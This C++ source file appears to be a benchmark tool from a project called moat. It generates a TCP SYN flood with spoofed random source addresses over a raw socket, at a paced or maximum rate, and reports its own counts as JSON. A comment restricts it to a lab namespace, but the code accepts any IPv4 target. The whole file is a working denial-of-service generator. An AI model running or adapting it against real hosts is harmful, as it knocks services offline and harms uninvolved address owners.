// moat_synflood: the SYN flood of bench/attack/run, at a fixed rate that
// it counts itself.
//
//   moat_synflood --dst 198.18.0.2 [--port 80] [--rate N] [--seconds S]
//                 [--batch B] [--exclude 198.18.0.0/24]
//
// Sends TCP SYNs (no options, like hping3 -S) with random source addresses
// and ports to one destination through a raw IPv4 socket (IP_HDRINCL), so
// they take the kernel's output path as hping3's do (routing, neighbour
// resolution, the namespace's nft output hook). --rate N paces batches of
// --batch frames (sendmmsg) against the monotonic clock, sleeping between
// them, so that the CPU it shares with the legitimate client and the
// backend is not spent spinning. When it falls more than 10 ms behind its
// schedule (it cannot keep up, or was not scheduled) it drops the backlog
// instead of bursting to catch up, so its count is what it really offered
// at a steady rate. --rate 0 sends as fast as it can.
//
// SIGUSR1 prints a mark, {"mark": frames sent so far, "t": seconds since
// start}, so a caller can take the rate of a window from the generator's
// own count. Stops after --seconds, or at SIGINT/SIGTERM, and prints one
// JSON line: frames sent, send errors, elapsed seconds, the achieved rate,
// and the time it spent behind schedule. Exit status 0 unless the socket could not
// be opened or the arguments are wrong.
//
// Only for the lab: bench/attack/run runs it inside a namespace it made,
// towards an address in that namespace's own subnet (198.18.0.0/15).

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>
#include <vector>

namespace moat::bench {
namespace {

volatile sig_atomic_t g_stop = 0;
volatile sig_atomic_t g_mark = 0;

void OnSignal(int) { g_stop = 1; }
void OnMark(int) { g_mark = 1; }

uint64_t NowNs() {
  timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<uint64_t>(ts.tv_sec) * 1000000000ull + static_cast<uint64_t>(ts.tv_nsec);
}

void SleepUntilNs(uint64_t t) {
  timespec ts;
  ts.tv_sec = static_cast<time_t>(t / 1000000000ull);
  ts.tv_nsec = static_cast<long>(t % 1000000000ull);
  while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, nullptr) == EINTR && !g_stop &&
         !g_mark) {
  }
}

// xorshift64*: fast, and good enough to spread sources over the address
// space (a flood's sources need no cryptographic quality).
struct Rng {
  uint64_t s;
  uint64_t Next() {
    s ^= s >> 12;
    s ^= s << 25;
    s ^= s >> 27;
    return s * 0x2545F4914F6CDD1Dull;
  }
};

// RFC 1071 one's-complement sum over 16-bit words (len even here).
uint32_t Sum16(const void* data, size_t len, uint32_t sum) {
  const auto* p = static_cast<const uint8_t*>(data);
  for (size_t i = 0; i + 1 < len; i += 2) sum += static_cast<uint32_t>(p[i] << 8 | p[i + 1]);
  return sum;
}

uint16_t Fold(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum & 0xffff);
}

struct Options {
  in_addr dst{};
  uint16_t port = 80;
  uint64_t rate = 0;  // frames per second; 0 = as fast as possible
  double seconds = 10;
  unsigned batch = 32;
  uint32_t exclude_net = 0, exclude_mask = 0;  // host order
};

[[noreturn]] void Usage(const char* why) {
  std::fprintf(stderr,
               "moat_synflood: %s\n"
               "usage: moat_synflood --dst IPV4 [--port P] [--rate SYN_PER_S (0: max)] "
               "[--seconds S (max 600)] [--batch 1..256] [--exclude NET/LEN]\n",
               why);
  std::exit(2);
}

Options Parse(int argc, char** argv) {
  Options o;
  bool have_dst = false;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    if (i + 1 >= argc) Usage(("missing value for " + a).c_str());
    const char* v = argv[++i];
    char* end = nullptr;
    if (a == "--dst") {
      if (inet_pton(AF_INET, v, &o.dst) != 1) Usage("--dst wants an IPv4 address");
      have_dst = true;
    } else if (a == "--port") {
      const unsigned long p = std::strtoul(v, &end, 10);
      if (*end != '\0' || p < 1 || p > 65535) Usage("--port must be 1..65535");
      o.port = static_cast<uint16_t>(p);
    } else if (a == "--rate") {
      o.rate = std::strtoull(v, &end, 10);
      if (*end != '\0' || o.rate > 100000000) Usage("--rate must be 0..100000000");
    } else if (a == "--seconds") {
      o.seconds = std::strtod(v, &end);
      if (*end != '\0' || !(o.seconds > 0 && o.seconds <= 600))
        Usage("--seconds must be in (0, 600]");
    } else if (a == "--batch") {
      const unsigned long b = std::strtoul(v, &end, 10);
      if (*end != '\0' || b < 1 || b > 256) Usage("--batch must be 1..256");
      o.batch = static_cast<unsigned>(b);
    } else if (a == "--exclude") {
      std::string s = v;
      const size_t slash = s.find('/');
      in_addr net{};
      if (slash == std::string::npos || inet_pton(AF_INET, s.substr(0, slash).c_str(), &net) != 1) {
        Usage("--exclude wants NET/LEN");
      }
      const unsigned long len = std::strtoul(s.c_str() + slash + 1, &end, 10);
      if (*end != '\0' || len > 32) Usage("--exclude: LEN must be 0..32");
      o.exclude_mask = len == 0 ? 0 : ~uint32_t{0} << (32 - len);
      o.exclude_net = ntohl(net.s_addr) & o.exclude_mask;
    } else {
      Usage(("unknown argument " + a).c_str());
    }
  }
  if (!have_dst) Usage("--dst is required");
  return o;
}

// A random unicast source outside the excluded net, 0/8, 127/8, 224/3 and
// the lab's own 198.18.0.0/15 (whose answers the namespaces would take as
// their own traffic).
uint32_t RandomSource(Rng& rng, const Options& o) {
  for (;;) {
    const uint32_t a = static_cast<uint32_t>(rng.Next() >> 32);
    const uint32_t top = a >> 24;
    if (top == 0 || top == 127 || top >= 224) continue;
    if ((a & 0xfffe0000u) == 0xc6120000u) continue;  // 198.18.0.0/15
    if (o.exclude_mask != 0 && (a & o.exclude_mask) == o.exclude_net) continue;
    return a;
  }
}

constexpr size_t kFrameLen = sizeof(iphdr) + sizeof(tcphdr);

void BuildSyn(uint8_t* buf, Rng& rng, const Options& o) {
  auto* ip = reinterpret_cast<iphdr*>(buf);
  auto* tcp = reinterpret_cast<tcphdr*>(buf + sizeof(iphdr));
  std::memset(buf, 0, kFrameLen);
  const uint64_t r = rng.Next();
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_TCP;
  ip->tot_len = htons(kFrameLen);
  ip->id = static_cast<uint16_t>(r);
  ip->saddr = htonl(RandomSource(rng, o));
  ip->daddr = o.dst.s_addr;
  ip->check = htons(Fold(Sum16(ip, sizeof(iphdr), 0)));
  tcp->source = htons(static_cast<uint16_t>(1024 + (r >> 16) % 64512));
  tcp->dest = htons(o.port);
  tcp->seq = static_cast<uint32_t>(r >> 32);
  tcp->doff = 5;
  tcp->syn = 1;
  tcp->window = htons(512);
  // Pseudo-header (RFC 9293 3.1): addresses, protocol, TCP length.
  uint32_t sum = Sum16(&ip->saddr, 8, 0) + IPPROTO_TCP + sizeof(tcphdr);
  tcp->check = htons(Fold(Sum16(tcp, sizeof(tcphdr), sum)));
}

int Run(const Options& o) {
  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::fprintf(stderr, "moat_synflood: raw socket: %s (needs root or CAP_NET_RAW)\n",
                 std::strerror(errno));
    return 1;
  }
  // Short sleeps must be short: the default 50 us timer slack would cap a
  // paced 200k SYN/s flood well below its rate.
  prctl(PR_SET_TIMERSLACK, 1UL, 0, 0, 0);
  Rng rng{NowNs() | 1};
  std::vector<uint8_t> frames(o.batch * kFrameLen);
  std::vector<iovec> iov(o.batch);
  std::vector<mmsghdr> msgs(o.batch);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = o.dst;
  for (unsigned i = 0; i < o.batch; ++i) {
    iov[i] = {frames.data() + i * kFrameLen, kFrameLen};
    msgs[i] = {};
    msgs[i].msg_hdr.msg_name = &to;
    msgs[i].msg_hdr.msg_namelen = sizeof(to);
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }
  const uint64_t start = NowNs();
  const uint64_t end = start + static_cast<uint64_t>(o.seconds * 1e9);
  const uint64_t interval = o.rate ? static_cast<uint64_t>(o.batch * 1e9 / o.rate) : 0;
  constexpr uint64_t kMaxLagNs = 10'000'000;
  uint64_t next = start, sent = 0, errors = 0, lag_ns = 0;
  int last_errno = 0;
  while (!g_stop) {
    uint64_t now = NowNs();
    if (now >= end) break;
    if (g_mark) {
      g_mark = 0;
      std::printf("{\"mark\": %llu, \"t\": %.6f}\n", static_cast<unsigned long long>(sent),
                  static_cast<double>(now - start) / 1e9);
      std::fflush(stdout);
    }
    if (interval != 0) {
      if (now < next) {
        SleepUntilNs(next);
        continue;
      }
      if (now - next > kMaxLagNs) {
        // Behind schedule: forget the debt rather than burst.
        lag_ns += now - next;
        next = now;
      }
      next += interval;
    }
    for (unsigned i = 0; i < o.batch; ++i) BuildSyn(frames.data() + i * kFrameLen, rng, o);
    const int n = sendmmsg(fd, msgs.data(), o.batch, 0);
    if (n > 0) {
      sent += static_cast<uint64_t>(n);
      if (static_cast<unsigned>(n) < o.batch) errors += o.batch - static_cast<unsigned>(n);
    } else {
      errors += o.batch;
      last_errno = errno;
    }
  }
  const double elapsed = static_cast<double>(NowNs() - start) / 1e9;
  std::printf(
      "{\"sent\": %llu, \"errors\": %llu, \"elapsed_s\": %.3f, \"rate\": %.0f, "
      "\"requested_rate\": %llu, \"behind_s\": %.3f, \"last_error\": \"%s\"}\n",
      static_cast<unsigned long long>(sent), static_cast<unsigned long long>(errors), elapsed,
      elapsed > 0 ? static_cast<double>(sent) / elapsed : 0.0,
      static_cast<unsigned long long>(o.rate), static_cast<double>(lag_ns) / 1e9,
      last_errno ? std::strerror(last_errno) : "");
  std::fflush(stdout);
  close(fd);
  return 0;
}

}  // namespace
}  // namespace moat::bench

int main(int argc, char** argv) {
  const moat::bench::Options o = moat::bench::Parse(argc, argv);
  struct sigaction sa {};
  sa.sa_handler = moat::bench::OnSignal;
  sigaction(SIGINT, &sa, nullptr);
  sigaction(SIGTERM, &sa, nullptr);
  struct sigaction sm {};
  sm.sa_handler = moat::bench::OnMark;
  sigaction(SIGUSR1, &sm, nullptr);
  return moat::bench::Run(o);
}
